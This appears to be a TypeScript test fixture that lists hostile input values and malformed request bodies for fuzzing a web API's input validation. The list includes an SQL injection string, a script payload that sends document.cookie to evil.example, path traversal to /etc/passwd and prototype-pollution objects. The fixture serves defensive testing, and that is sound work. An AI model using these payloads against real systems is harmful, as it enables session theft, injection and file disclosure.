import fc from 'fast-check';

function nested(depth: number): unknown {
  let value: unknown = 'fondo';
  for (let level = 0; level < depth; level += 1) value = { a: value };
  return value;
}

/** Values a hostile client sends in place of any field. */
export const hostileValues: unknown[] = [
  '\u0000',
  'Ana\u0000María',
  'x'.repeat(100_000),
  '',
  ' ',
  "' OR '1'='1' --",
  '<script>fetch("https://evil.example/" + document.cookie)</script>',
  '../../../etc/passwd',
  '\u202Etxt.exe',
  '𝕭𝖗𝖎𝖑𝖑𝖔 🧽',
  '\ud800',
  -1,
  0,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  -0.5,
  true,
  null,
  [],
  [null],
  {},
  JSON.parse('{"__proto__": {"polluted": true}}'),
  { constructor: { prototype: { polluted: true } } },
  nested(200),
  Array.from({ length: 10_000 }, () => 1),
];

export const hostileValue = fc.constantFrom(...hostileValues);

/** Raw bodies that are not what the route expects at all. */
export const hostileRawBodies: { body: string; contentType: string }[] = [
  { body: '{', contentType: 'application/json' },
  { body: '{"email": "a@b.cl",}', contentType: 'application/json' },
  { body: 'null', contentType: 'application/json' },
  { body: '"texto"', contentType: 'application/json' },
  { body: '[]', contentType: 'application/json' },
  { body: '{"a":'.repeat(5_000), contentType: 'application/json' },
  { body: `{"a":"${'x'.repeat(2 * 1024 * 1024)}"}`, contentType: 'application/json' },
  { body: 'email=a%40b.cl&password=x', contentType: 'application/x-www-form-urlencoded' },
  { body: '<xml/>', contentType: 'text/xml' },
  { body: '\u0000', contentType: 'application/json' },
  { body: '{"email":"a@b.cl"}', contentType: 'application/json; charset=latin1' },
  // Broken uploads: no boundary, a part cut short, a form that ends before any part.
  { body: 'archivo', contentType: 'multipart/form-data' },
  {
    body: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n\u0089PNG',
    contentType: 'multipart/form-data; boundary=x',
  },
  { body: '--x--\r\n', contentType: 'multipart/form-data; boundary=x' },
  {
    body: '--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\n{}\r\n--x--\r\n',
    contentType: 'multipart/form-data; boundary=x',
  },
];
